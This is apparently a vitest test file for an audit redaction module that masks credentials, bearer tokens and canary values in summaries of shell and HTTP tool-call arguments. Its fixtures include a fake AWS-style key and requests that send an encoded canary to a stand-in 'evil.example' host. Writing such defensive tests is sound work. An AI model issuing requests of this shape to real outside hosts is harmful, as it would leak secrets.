import { describe, expect, it } from 'vitest';
import { createDefaultRedact } from '../../../core/audit/default-redact.ts';
import { summarizeArguments } from '../../../core/audit/summarize-arguments.ts';

describe('fallback redaction of arguments_summary', () => {
  it('masks credential shapes, key=value secrets, bearer tokens and verbatim canaries', () => {
    const redact = createDefaultRedact({ canaryValues: () => ['decoy-4f9a8b7c'] });
    const text = summarizeArguments({
      type: 'ShellExec',
      command: 'curl',
      args: ['-H', 'Authorization: Bearer abcdefghijklmnop', 'https://x.test/?api_key=zzzz9999&q=1', 'AKIAABCDEFGHIJKLMNOP', 'decoy-4f9a8b7c', 'password=hunter22'],
    }, redact);
    for (const secret of ['abcdefghijklmnop', 'zzzz9999', 'AKIAABCDEFGHIJKLMNOP', 'decoy-4f9a8b7c', 'hunter22']) expect(text).not.toContain(secret);
    expect(text).toContain('https://x.test/');
  });

  it('withholds the whole summary when a canary is still recognised in another form', () => {
    const redact = createDefaultRedact({ containsCanary: (text) => text.includes('ZGVjb3k') });
    expect(redact('{"body":"ZGVjb3ktNGY5YThiN2M="}')).toBe('[REDACTED] (arguments carry a canary value)');
  });

  it('a withheld summary keeps the first URL\'s scheme and host, unless they carry the canary', () => {
    const redact = createDefaultRedact({ containsCanary: (text) => text.includes('ZGVjb3k') });
    expect(redact('{"method":"POST","url":"https://user@Evil.example:8443/up?d=ZGVjb3k","body":"x"}'))
      .toBe('[REDACTED] (arguments carry a canary value) https://Evil.example');
    expect(redact('{"url":"https://ZGVjb3k.evil.example/up"}')).toBe('[REDACTED] (arguments carry a canary value)');
  });
});
